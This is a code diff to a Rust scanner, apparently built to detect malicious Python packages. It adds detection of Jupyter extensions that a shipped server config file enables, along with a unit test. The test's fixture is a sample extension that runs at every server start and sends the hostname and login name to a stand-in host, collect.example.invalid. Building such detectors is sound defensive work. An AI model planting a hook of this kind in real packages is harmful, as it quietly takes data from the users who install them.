@@ -362,11 +362,16 @@ fn command_functions(
     let mut out = Vec::new();
     for f in &pkg.files {
         let name = f.relative.rsplit('/').next().unwrap_or("");
-        if !matches!(name, "entry_points.txt" | "setup.cfg" | "pyproject.toml") {
+        let targets = if matches!(name, "entry_points.txt" | "setup.cfg" | "pyproject.toml") {
+            let Some(text) = pkg.text(f) else { continue };
+            script_targets(text)
+        } else if name.ends_with(".json") && jupyter_config(&f.relative) {
+            let Some(text) = pkg.text(f) else { continue };
+            jupyter_extensions(text)
+        } else {
             continue;
-        }
-        let Some(text) = pkg.text(f) else { continue };
-        for (module, function) in script_targets(text) {
+        };
+        for (module, function) in targets {
             let path = module.replace('.', "/");
             let file = [
                 format!("{path}.py"),
@@ -404,6 +409,51 @@ fn command_functions(
             }
             if out.len() >= 64 {
                 return out;
+            }
+        }
+    }
+    out
+}
+
+/// A Jupyter configuration file that installing the package drops where every Jupyter
+/// server or notebook reads it (`<wheel>.data/data/etc/jupyter/jupyter_server_config.d/
+/// NAME.json`, or the sdist's `jupyter-config/...` that becomes it): the extensions it
+/// enables load whenever a server starts.
+fn jupyter_config(relative: &str) -> bool {
+    relative.contains("jupyter_server_config.d/") || relative.contains("jupyter_notebook_config.d/")
+}
+
+/// The functions Jupyter calls in each extension module a configuration file enables
+/// (`{"ServerApp": {"jpserver_extensions": {"mod": true}}}`, the notebook's
+/// `NotebookApp.nbserver_extensions` alike): the module's `_load_jupyter_server_extension`
+/// (or its older names) runs at every server start, with the server object in hand.
+fn jupyter_extensions(text: &str) -> Vec<(String, String)> {
+    const LOADERS: &[&str] = &[
+        "_load_jupyter_server_extension",
+        "load_jupyter_server_extension",
+    ];
+    let Ok(config) = serde_json::from_str::<serde_json::Value>(text) else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    for (app, key) in [
+        ("ServerApp", "jpserver_extensions"),
+        ("NotebookApp", "nbserver_extensions"),
+    ] {
+        let Some(enabled) = config
+            .get(app)
+            .and_then(|a| a.get(key))
+            .and_then(serde_json::Value::as_object)
+        else {
+            continue;
+        };
+        for (module, on) in enabled.iter().take(16) {
+            let named = !module.is_empty()
+                && module.split('.').all(|p| {
+                    !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                });
+            if named && on.as_bool() == Some(true) {
+                out.extend(LOADERS.iter().map(|f| (module.clone(), (*f).to_owned())));
             }
         }
     }
@@ -1964,6 +2014,44 @@ https.get('https://telemetry.example.invalid/v?' + version(), () => {});
             sent(&with("[other.group]\nplug = plug.hooks\n")),
             Some(Context::Runtime)
         );
+    }
+
+    #[test]
+    fn a_jupyter_extension_enabled_by_a_shipped_config_runs_at_server_start() {
+        let ext = "import os, socket, urllib.request\n\ndef _push(app):\n    body = ('%s %s' % (socket.gethostname(), os.getlogin())).encode()\n    urllib.request.urlopen('https://collect.example.invalid/s', data=body)\n\ndef _load_jupyter_server_extension(app):\n    _push(app)\n";
+        let with = |config: &'static str| {
+            analyze_package(&package(
+                "jx",
+                &[
+                    ("jx-2.0.dist-info/METADATA", "Name: jx\nVersion: 2.0\n"),
+                    (
+                        "jx-2.0.data/data/etc/jupyter/jupyter_server_config.d/jx.json",
+                        config,
+                    ),
+                    ("jx/__init__.py", ext),
+                ],
+            ))
+        };
+        let sent = |a: &Analysis| {
+            a.behaviours
+                .iter()
+                .find(|b| b.kind == BehaviourKind::SecretExfiltration)
+                .map(|b| b.context)
+        };
+        assert_eq!(
+            sent(&with(
+                r#"{"ServerApp": {"jpserver_extensions": {"jx": true}}}"#
+            )),
+            Some(Context::Import)
+        );
+        // Disabled, or a config that is not JSON: the hook runs only if someone calls it.
+        assert_eq!(
+            sent(&with(
+                r#"{"ServerApp": {"jpserver_extensions": {"jx": false}}}"#
+            )),
+            Some(Context::Runtime)
+        );
+        assert_eq!(sent(&with("{ServerApp")), Some(Context::Runtime));
     }
 
     #[test]
